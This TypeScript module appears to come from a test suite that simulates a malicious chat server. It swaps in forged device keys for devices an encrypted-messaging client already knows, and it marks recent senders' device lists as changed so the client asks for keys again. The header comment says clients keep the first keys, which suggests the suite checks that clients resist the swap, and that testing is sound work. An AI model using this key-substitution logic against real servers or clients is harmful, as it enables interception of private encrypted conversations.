/** Shows the victim other keys of a device whose keys it already knows. Clients keep the first ones. */
import { isVictim, listOf, objectOf, type WireRequest, type Attack, type AttackOptions, type Json } from "./attack.ts";
import type { FalseKeys } from "../../device/index.ts";
import { newMessages } from "./sync.ts";

/** The attack `key-swap-later`. */
export function keySwapLater({ makeFalseKeys, userOf }: Pick<AttackOptions, "makeFalseKeys" | "userOf">): Attack {
  const lies = new Map<string, FalseKeys>();

  const falseDevice = async (userId: string, deviceId: string): Promise<Json> => {
    const name = JSON.stringify([userId, deviceId]);
    const lie = lies.get(name) ?? (await makeFalseKeys(userId, deviceId));
    lies.set(name, lie);
    // Signed by the device itself; the owner's identity, which the victim knows, has not signed it.
    const own = objectOf(objectOf(lie.deviceKeys["signatures"])[userId])[`ed25519:${deviceId}`];
    return { ...lie.deviceKeys, signatures: { [userId]: { [`ed25519:${deviceId}`]: own } } };
  };

  const falseQuery = async (answer: unknown, own: string | undefined): Promise<Json | undefined> => {
    const body = objectOf(answer);
    const users = await Promise.all(
      Object.entries(objectOf(body["device_keys"])).map(async ([userId, devices]) => {
        if (userId === own) return [userId, devices] as const;
        const swapped = Object.keys(objectOf(devices)).map(async (id) => [id, await falseDevice(userId, id)] as const);
        return [userId, Object.fromEntries(await Promise.all(swapped))] as const;
      }),
    );
    const lied = users.some(([userId, devices]) => userId !== own && Object.keys(objectOf(devices)).length > 0);
    return lied ? { ...body, device_keys: Object.fromEntries(users) } : undefined;
  };

  return {
    async answer(request, answer, on) {
      if (!on || !isVictim(request)) return undefined;
      return request.path.endsWith("/keys/query")
        ? await falseQuery(answer, userOf(request.device))
        : askAgain(request, answer, userOf(request.device));
    },
  };
}

/** Makes the victim ask for the keys of all who have just written: "their devices have changed". */
function askAgain(request: WireRequest, answer: unknown, own: string | undefined): Json | undefined {
  const writers = newMessages(request, answer, own).map(({ sender }) => sender);
  if (writers.length === 0) return undefined;
  const body = objectOf(answer);
  const lists = objectOf(body["device_lists"]);
  return { ...body, device_lists: { ...lists, changed: [...listOf(lists["changed"]), ...new Set(writers)] } };
}
